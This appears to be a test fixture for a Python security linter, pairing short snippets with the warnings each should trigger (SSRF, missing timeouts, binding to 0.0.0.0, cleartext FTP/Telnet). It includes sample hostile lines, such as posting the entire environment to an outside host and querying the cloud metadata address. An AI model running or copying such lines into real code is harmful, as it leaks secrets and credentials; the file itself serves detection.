#: an ordinary request
import requests
requests.get("https://example.com/", timeout=3)
requests.get("https://example.com/")  # expect: PY-NETWORK-TIMEOUT warning
#: sockets and addresses
import socket, urllib.request
line = socket.socket()
line.connect(("127.0.0.1", 9))  # expect: PY-NETWORK warning
urllib.request.urlopen("http://203.0.113.9/x")  # expect: PY-NETWORK warning
urllib.request.urlopen("http://169.254.169.254/latest/meta-data/")  # expect: PY-NETWORK warning
urllib.request.urlopen("http://localhost:8000/")
#: constants of the socket module are not reported
import socket
print(socket.AF_INET, socket.htons(80), socket.inet_aton("127.0.0.1"))
#: an address from a request
import requests
from flask import Flask, request
app = Flask(__name__)
@app.route("/a")
def a():
    return requests.get(request.args["url"], timeout=3).text  # expect: PY-NETWORK-FORGERY error
@app.route("/b")
def b():
    return requests.get("https://api.example.com/items/" + request.args["id"], timeout=3).text
#: all interfaces
import socket
from flask import Flask
one = socket.socket()
one.bind(("0.0.0.0", 80))  # expect: PY-NETWORK-BINDING warning
two = socket.socket()
two.bind(("", 80))  # expect: PY-NETWORK-BINDING warning
three = socket.socket()
three.bind(("127.0.0.1", 80))
app = Flask(__name__)
app.run(host="0.0.0.0")  # expect: PY-NETWORK-BINDING warning
app.run()
#: unencrypted protocols
import ftplib, telnetlib
telnetlib.Telnet("a.example.com")  # expect: PY-NETWORK-CLEARTEXT warning
ftplib.FTP("a.example.com")  # expect: PY-NETWORK-CLEARTEXT warning
ftplib.FTP_TLS("a.example.com")
#: the whole environment
import json, os, requests
env = os.environ.copy()
requests.post("https://example.com", json=dict(os.environ), timeout=1)  # expect: PY-EXFILTRATION error
print(os.environ["HOME"], os.environ.get("LANG"))
#: the whole environment as text
import json, os
json.dumps(dict(os.environ))  # expect: PY-SECRET-ENVIRONMENT warning
